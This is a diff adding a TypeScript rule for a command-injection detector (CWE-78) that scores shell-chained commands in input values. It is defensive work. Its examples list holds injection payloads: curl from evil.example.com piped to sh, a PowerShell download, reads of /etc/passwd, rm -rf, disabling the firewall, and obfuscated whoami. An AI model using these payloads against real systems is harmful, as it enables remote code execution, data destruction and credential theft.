@@ -1,0 +1,281 @@
+import { type Command, fit } from '../../grammars/shell/command.ts';
+import { commands } from '../../grammars/shell/commands.ts';
+import type { CommandHead } from '../../grammars/shell/shell.ts';
+import { introducer } from '../../grammars/shell/shell-introducer.ts';
+import { buildTools, columnNames, headings, plainTakers, use } from '../../knowledge/commands.ts';
+import { endsText, isShownLoop, namesSecret, wordBefore } from '../../placement/command-place.ts';
+import { confidence } from '../../placement/confidence.ts';
+import type { Subject } from '../../placement/subject.ts';
+import { followsValue, wordsBefore } from '../../text/place.ts';
+import type { Match, ValueRule } from '../rule.ts';
+
+/** `; id`, `| cat /etc/passwd`, `&& whoami`, `|| ping -c 10 127.0.0.1`. */
+export const chainedCommand: ValueRule = {
+  id: 'cmdi.chained-command',
+  category: 'cmdi',
+  cwe: 'CWE-78',
+  severity: 'critical',
+  score: confidence.strong,
+  message: 'ends the expected command with a shell separator and starts another one',
+  trigger: { literals: [[';', '|', '&']] },
+  judge,
+  examples: [
+    '";id ##',
+    '10.0.0.1; cat /etc/hosts',
+    'report.pdf | nslookup evil.example.com',
+    '"; uname -a; "',
+    'x && curl http://evil.example.com/a | sh',
+    '1 || ping -n 20 127.0.0.1',
+    'x & net localgroup administrators',
+    'img.png;id',
+    "a';w'h'oami;#",
+    ';dig +short evil.example.com',
+    'x|getent hosts evil.example.com',
+    '10.0.0.1; . /tmp/setup',
+    '10.0.0.1 & netsh advfirewall set allprofiles state off',
+    "x') ; whoami ; (",
+    "') ; id ; ('",
+    'a;id;.png',
+    'a||whoami||b',
+    '& waitfor /t 10 x',
+    'x & powershell iwr http://evil.example.com/a -OutFile a.exe',
+    '; openssl s_client -connect 192.0.2.9:443',
+    '; grep one two three four five six seven eight > /tmp/x',
+    'FROM a\nx; rm -rf /var/www',
+    'FROM a\nRUN x || cat /etc/hosts',
+    'FROM a\nRUN x & true && cat /etc/passwd',
+    'x; for i in 1;do ps -ef;done',
+    'x & while uptime;do break;done #',
+    'x;case 1 in *)id -u;;esac',
+    'x && timeout 5 ps -ef',
+    "x';2>&1 reboot||'",
+    'x | read a</etc/passwd',
+    'x;tou${y}ch a.php',
+    'x & ${y:-uname} -a',
+    'x;$(echo di|rev) -u',
+    'x;f(){ ls -la /tmp;};f',
+  ],
+  lookalikes: [
+    'salt & pepper; find more in our shop',
+    'Echo Park, cat cafés, ping pong & bash parties',
+    'either this | that; who knows?',
+    '| cat | curl |\n|---|---|\n| id | name |',
+    'Mozilla/5.0 (X11; U; Linux i686; id; rv:1.9.2) Gecko/20100115',
+    'a=1; path=/; id=5; sort=asc',
+    'wash, cut & sort; sleep 8 hours',
+    '?type=cat&id=5&sort=name',
+    '(ls|dir)',
+    'for i in 1 2 3; do echo $i; done',
+    '8cx4{7&v^Ol"@PBL',
+    'i4[A&cP>2I!B7|eF',
+    'QiMrH".csxx|LS',
+    '<p>one & more</p>',
+    'dig it; the +short list | getent hosts no party',
+    'first; . then second',
+    'In the menu; where the headings are missing from a page, press F9.',
+    'tsc && npm run bundle',
+    '$sum = 5 + 6; echo $sum;',
+    'cmd & powershell tips for beginners',
+    'tls; openssl and friends',
+    'It is this one:\n\n```\nFROM node:22\nRUN npm ci && rm -rf /var/cache/apk/*\n```\n\nIs it fine?',
+    '# Try\nwhile true; do sed -e s/a/b/ list.txt; done',
+    '{\n"test":"standard && npm run a && npm run b","b":"airtap -- test/*.js"}',
+    'In my script; for each file I do this, then sort the rest',
+    '&utm_term= "Fish" -used site:example.com',
+    'FROM node:22\nRUN apk add curl && rm -rf /var/cache/apk/*\nCMD ["node","a.js"]',
+  ],
+};
+
+function judge(subject: Subject): Match | undefined {
+  const text = subject.text;
+  if (text.startsWith('Mozilla/') || text.startsWith('Opera/')) return judgeUserAgent(subject);
+  const reading = subject.tokens(commands);
+  if (!reading.complete) subject.incomplete('tokens');
+  let best: Match | undefined;
+  for (const command of reading.list) {
+    if (!isChained(command)) continue;
+    let score = scoreOf(text, command, subject.where === 'name');
+    if (score > confidence.hint && isImageStep(text, command.head)) score = confidence.hint;
+    if (score > (best?.score ?? 0)) best = { start: command.head.start, end: command.end, score };
+    if (score >= certain) break;
+  }
+  return best;
+}
+
+const certain = 92;
+
+/** The comment of a user agent is a list with semicolons whose items may be `id` or `ls`. */
+function judgeUserAgent(subject: Subject): Match | undefined {
+  for (const command of subject.tokens(commands).list) {
+    if (!isChained(command)) continue;
+    if (command.fit === fit.full) return { start: command.head.start, end: command.end };
+  }
+  return undefined;
+}
+
+function isChained({ head, chain }: Command): boolean {
+  // The lines of a script.
+  if (head.introducer === introducer.lineBreak) return chain < head.start;
+  return head.introducer >= introducer.semicolon && head.introducer <= introducer.or;
+}
+
+/** `isName`: names of members are no lists, whatever is between their semicolons. */
+function scoreOf(text: string, command: Command, isName: boolean): number {
+  const { head } = command;
+  if (isAlternative(text, command)) return confidence.trace;
+  if (isShownLoop(text, head)) return confidence.hint;
+  if (command.name === 'echo' && program.test(text)) return confidence.hint;
+  if (command.fit === fit.none) return 0;
+  const isValue = isPlaced(text, command);
+  switch (command.fit) {
+    case fit.full:
+      return fullScore(text, command, isValue);
+    case fit.sureAlone:
+      return aloneScore(text, command, isValue, confidence.certain);
+    case fit.alone:
+      if (isName && isValue) return confidence.likely;
+      return aloneScore(text, command, isValue && !isListItem(text, command), confidence.strong);
+    case fit.aloneWord:
+      return aloneWordScore(text, command, isValue);
+    case fit.weak:
+      if (isValue && command.structured) return confidence.strong;
+      if (isValue && isPlausible(text, command) && endsText(text, command.end))
+        return confidence.likely;
+      return (command.uses & use.english) !== 0 ? 0 : confidence.trace;
+    default:
+      return 0;
+  }
+}
+
+/** In a script that stands beside a value, or beside one itself. */
+function isPlaced(text: string, { chain, head }: Command): boolean {
+  return chain < head.start || followsValue(text, head.start);
+}
+
+const recipeCharsMax = 2_000;
+const stepCharsMax = 400;
+
+/**
+ * `RUN a && b` in a Dockerfile. No shell goes on behind the `&&`: it knows no command `RUN`, which
+ * is why this can be no attack, and why nothing but such a chain is let through.
+ */
+function isImageStep(text: string, { start, introducer: by }: CommandHead): boolean {
+  if (by !== introducer.and || !imageRecipe.test(text.slice(0, start).slice(0, recipeCharsMax)))
+    return false;
+  const before = text.slice(Math.max(0, start - stepCharsMax), start);
+  const run = before.lastIndexOf('\nRUN ');
+  if (run < 0) return false;
+  const step = before.slice(run + 1).replaceAll('&&', '');
+  return !otherChain.test(step) && !lineEnd.test(step);
+}
+
+/** What a shell goes on behind, whether it knew the command in front or not. */
+const otherChain = /[;|&`()]/;
+/** The end of a line that the next one does not continue. */
+const lineEnd = /(?:^|[^\\\r])\r?\n/;
+
+const imageRecipe =
+  /(?:^|\n```\w{0,12}\n)(?:#[^\n]{0,80}\n)?FROM [\w./:-]{1,80}(?: AS \w{1,20})?\r?\n/i;
+
+/** `$x = 5; echo $x;`: PHP that somebody shows. */
+const program = /^\s{0,4}\$\w{1,40} {0,2}=[^=][^;|&]{0,80}; {0,2}echo \$\w{1,40} {0,2};?\s{0,4}$/;
+
+/** `(cat|dir)`: words of a regular expression. */
+function isAlternative(text: string, { head, end, fit: found }: Command): boolean {
+  if (head.introducer !== introducer.pipe || found === fit.full) return false;
+  return (
+    text.charCodeAt(end) === 41 &&
+    alternatives.test(text.slice(Math.max(0, head.start - 40), head.start))
+  );
+}
+
+const alternatives = /\((?:\?:)?(?:[\w.-]{1,20}\|){0,12}[\w.-]{1,20}$/;
+
+/**
+ * Any text is fine for `echo`; one word will do for `rm`, and for `del` when a comment
+ * follows.
+ */
+function isPlausible(text: string, command: Command): boolean {
+  if (text.slice(command.end, command.end + 2).includes('#')) return true;
+  if (wordsBefore(text, command.head.start) > 1) return false;
+  return (command.uses & use.text) !== 0 || plainTakers.has(command.name);
+}
+
+function fullScore(text: string, command: Command, isValue: boolean): number {
+  if (isValue) {
+    if (command.hidden || command.hidesArgument || command.structured) return confidence.certain;
+    if (isBuildStep(command)) return confidence.hint;
+    const mayBeProse = (command.uses & (use.english | use.subcommand)) !== 0 && !command.isSure;
+    if (mayBeProse)
+      return wordsBefore(text, command.head.start) > 1 ? confidence.hint : confidence.strong;
+    return command.isSure ? confidence.certain : confidence.strong;
+  }
+  if (command.hidden) return confidence.certain;
+  if (namesSecret(text, command.head.start, command.end)) return confidence.strong;
+  return (command.uses & use.english) !== 0 ? confidence.trace : confidence.hint;
+}
+
+/** `tsc && npm run b`: steps of a project's own script. */
+function isBuildStep({ head, name, uses, isSure }: Command): boolean {
+  const isStep = head.introducer === introducer.and || head.introducer === introducer.or;
+  return isStep && !isSure && (uses & use.subcommand) !== 0 && buildTools.has(name);
+}
+
+/** `;date` as the whole value; behind something else the word may be one of a list. */
+function aloneWordScore(text: string, command: Command, isValue: boolean): number {
+  const { head } = command;
+  if (isValue && command.structured) return confidence.strong;
+  if (!isValue || text.length - command.end > 16 || !endsText(text, command.end))
+    return confidence.trace;
+  const isFirst = head.start < 4 && startsText.test(text.slice(0, head.start));
+  if (isFirst && (isTight(text, head) || !headings.has(command.name))) return confidence.likely;
+  return isTight(text, head) ? confidence.hint : confidence.trace;
+}
+
+const startsText = /^['")]{0,3}$/;
+
+function aloneScore(text: string, command: Command, isValue: boolean, score: number): number {
+  if ((command.hidden || command.structured) && isValue) return confidence.certain;
+  const ends = endsText(text, command.end);
+  if (ends && isValue) return score;
+  const isSure = command.fit === fit.sureAlone;
+  if (isSure && isValue && isFramed(text, command)) return confidence.likely;
+  return ends || (command.hidden && isTight(text, command.head))
+    ? confidence.hint
+    : confidence.trace;
+}
+
+/** `a||whoami||b`, `a && whoami && b`: nothing but another word behind the second mark. */
+function isFramed(text: string, { head, end }: Command): boolean {
+  const isDouble = head.introducer === introducer.and || head.introducer === introducer.or;
+  return isDouble && frameEnd.test(text.slice(end, end + 24));
+}
+
+const frameEnd = /^ ?(?:\|\||&&) ?\w{1,12}$/;
+
+/** `x = a || id` */
+const assignment = /\s=\s/;
+const quote = /['"`]/;
+/** Digits, full stops, quotes: a value, not the words of a title. */
+const valueMark = /[\d.'"/@]/;
+
+/** The command follows its separator without a blank. */
+function isTight(text: string, head: CommandHead): boolean {
+  const before = text.charCodeAt(head.nameStart - 1);
+  return before !== 32 && before !== 10;
+}
+
+/** `name;id`, `a;b;id`, `?x=1&id`, `ego & id`: items of a list, words of a title. */
+function isListItem(text: string, command: Command): boolean {
+  const { head } = command;
+  if (columnNames.has(wordBefore(text, head.start))) return true;
+  const prefix = text.slice(Math.max(0, head.start - 40), head.start);
+  if (assignment.test(prefix)) return true;
+  const isAmpersand = head.introducer === introducer.ampersand;
+  if (quote.test(prefix)) return false;
+  if (prefix.trim().length > 1 && prefix.includes(text.charAt(head.start), 1)) return true;
+  if (isAmpersand && prefix.includes('=')) return true;
+  if (valueMark.test(prefix.slice(-20))) return false;
+  const isLoose = text.charCodeAt(head.start - 1) === 32 && !isTight(text, head);
+  return isLoose && isAmpersand && head.start > 1;
+}
